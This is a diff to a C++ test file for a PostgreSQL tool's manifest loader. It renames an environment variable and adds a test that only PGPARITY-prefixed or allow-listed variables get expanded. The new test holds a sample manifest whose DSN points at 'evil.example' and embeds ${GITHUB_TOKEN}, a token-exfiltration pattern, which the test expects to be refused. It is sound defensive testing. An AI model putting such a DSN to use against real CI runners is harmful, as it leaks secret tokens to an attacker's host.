@@ -2,6 +2,8 @@
 
 #include <gtest/gtest.h>
 
+#include <map>
+
 #include "desired/writer.hpp"
 
 namespace pgparity::desired {
@@ -12,7 +14,7 @@ const std::string full =
     "suspend: true\n"
     "targets:\n"
     "  production:\n"
-    "    dsn: \"${PROD_DSN}\"\n"
+    "    dsn: \"${PGPARITY_PROD_DSN}\"\n"
     "    role: reference\n"
     "  staging:\n"
     "    dsn: \"host=10.0.0.7 port=5432 user=pgparity dbname=postgres password=$${literal}\"\n"
@@ -73,7 +75,7 @@ const std::string full =
 LoadOptions test_environment() {
   LoadOptions options;
   options.environment = [](const std::string& name) -> std::optional<std::string> {
-    if (name == "PROD_DSN") return "host=prod.example password=s3cret";
+    if (name == "PGPARITY_PROD_DSN") return "host=prod.example password=s3cret";
     return std::nullopt;
   };
   return options;
@@ -92,7 +94,7 @@ TEST(Loader, ReadsEveryConceptOfTheManifest) {
   const Target& prod = m.targets.at("production");
   EXPECT_EQ(prod.role, Role::reference);
   EXPECT_EQ(prod.dsn, "host=prod.example password=s3cret");
-  EXPECT_EQ(prod.dsn_source, "${PROD_DSN}");
+  EXPECT_EQ(prod.dsn_source, "${PGPARITY_PROD_DSN}");
   EXPECT_EQ(m.reference(), &prod);
   const Target& staging = m.targets.at("staging");
   EXPECT_TRUE(staging.databases.all);
@@ -153,6 +155,38 @@ TEST(Loader, LeavesOutOptionalSectionsAsDefaults) {
   EXPECT_TRUE(m.targets.at("s").databases.names.empty());
 }
 
+/// A manifest from a pull request must not send any of the runner's variables to a host of its choosing.
+TEST(Loader, ExpandsOnlyVariablesTheRunnerMeantForPgparity) {
+  const std::string yaml =
+      "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"host=evil.example application_name=${GITHUB_TOKEN}\"\n"
+      "    role: managed\n";
+  std::map<std::string, std::string> env{{"GITHUB_TOKEN", "ghp_secret"}, {"PGPARITY_X", "x"}, {"PGHOST", "h"}};
+  LoadOptions options;
+  options.environment = [&env](const std::string& name) -> std::optional<std::string> {
+    const auto it = env.find(name);
+    if (it == env.end()) return std::nullopt;
+    return it->second;
+  };
+  const LoadResult refused = load_manifest_text(yaml, "m.yaml", options);
+  ASSERT_FALSE(refused.ok());
+  EXPECT_NE(format(refused.diagnostics).find("4:46: environment variable GITHUB_TOKEN may not be expanded"),
+            std::string::npos)
+      << format(refused.diagnostics);
+  EXPECT_EQ(format(refused.diagnostics).find("ghp_secret"), std::string::npos);
+
+  const LoadResult prefixed = load_manifest_text(
+      "apiVersion: pgparity/v1\ntargets:\n  s:\n    dsn: \"host=${PGHOST} application_name=${PGPARITY_X}\"\n"
+      "    role: managed\n",
+      "m.yaml", options);
+  ASSERT_TRUE(prefixed.ok()) << format(prefixed.diagnostics);
+  EXPECT_EQ(prefixed.manifest->targets.at("s").dsn, "host='h' application_name='x'");
+
+  env["PGPARITY_ENV_ALLOW"] = "OTHER, GITHUB_TOKEN";
+  const LoadResult allowed = load_manifest_text(yaml, "m.yaml", options);
+  ASSERT_TRUE(allowed.ok()) << format(allowed.diagnostics) << "the runner listed it";
+  EXPECT_NE(allowed.manifest->targets.at("s").dsn.find("ghp_secret"), std::string::npos);
+}
+
 TEST(Writer, LoadWriteLoadGivesAnEqualManifest) {
   const Manifest first = load_ok(full);
   const std::string written = write_manifest(first);
@@ -168,7 +202,7 @@ TEST(Writer, WritesTheSameTextForTheSameManifest) {
 
 TEST(Writer, KeepsVariablesUnexpandedSoSecretsStayOutOfTheFile) {
   const std::string written = write_manifest(load_ok(full));
-  EXPECT_NE(written.find("dsn: \"${PROD_DSN}\""), std::string::npos);
+  EXPECT_NE(written.find("dsn: \"${PGPARITY_PROD_DSN}\""), std::string::npos);
   EXPECT_EQ(written.find("s3cret"), std::string::npos);
 }
 
